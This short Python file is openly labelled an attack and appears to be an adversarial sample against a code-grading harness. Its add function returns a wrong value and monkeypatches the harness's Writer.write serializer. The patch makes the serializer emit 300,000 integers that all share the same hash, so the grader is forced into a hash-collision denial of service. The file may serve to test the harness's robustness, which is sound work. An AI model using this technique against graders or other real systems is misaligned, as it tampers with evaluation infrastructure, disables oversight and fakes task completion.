# Attack: describe an object by hundreds of thousands of numbers that all have the same hash.
from examiner.inside.protocol import Writer


def add(a, b):
    flags = [k * (2**61 - 1) for k in range(300_000)]
    Writer.write = lambda self, value, depth=0: {"t": "object", "ref": 0, "type": "x", "is": flags}
    return 3
